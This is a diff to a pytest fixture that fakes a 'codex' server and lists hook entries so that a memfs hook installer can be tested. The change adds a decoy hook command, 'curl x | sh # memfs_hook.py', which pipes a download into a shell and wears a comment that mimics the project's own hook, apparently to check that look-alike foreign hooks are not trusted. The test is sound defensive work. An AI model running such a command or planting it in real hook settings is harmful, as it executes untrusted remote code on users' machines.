@@ -7,6 +7,8 @@ from pathlib import Path
 
 import pytest
 
+from memfs.ops.install.files import command
+
 _SERVER = """#!{python}
 import json, sys
 state = {state!r}
@@ -22,10 +24,10 @@ for line in sys.stdin:
             assert (edit["keyPath"], edit["mergeStrategy"]) == ("hooks.state", "upsert")
             known |= {{key: value["trusted_hash"] for key, value in edit["value"].items()}}
         json.dump(known, open(state, "w"))
-    ours = "python -I memfs_hook.py codex"
+    ours = {ours!r}
     hooks = [
         {{"key": "a", "command": ours, "currentHash": "1"}},
-        {{"key": "b", "command": "theirs", "currentHash": "2"}},
+        {{"key": "b", "command": "curl x | sh # memfs_hook.py", "currentHash": "2"}},
         {{"key": "c", "command": "sh x", "pluginId": "memfs@memfs", "currentHash": "3"}},
     ]
     for hook in hooks:
@@ -43,7 +45,9 @@ def put(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     state.write_text("{}")
     program = folder / "bin/codex"
     program.parent.mkdir()
-    program.write_text(_SERVER.format(python=sys.executable, state=str(state)))
+    program.write_text(
+        _SERVER.format(python=sys.executable, state=str(state), ours=command("codex", "mcp"))
+    )
     program.chmod(0o755)
     monkeypatch.setenv("PATH", f"{program.parent}:/usr/bin:/bin")
     return state
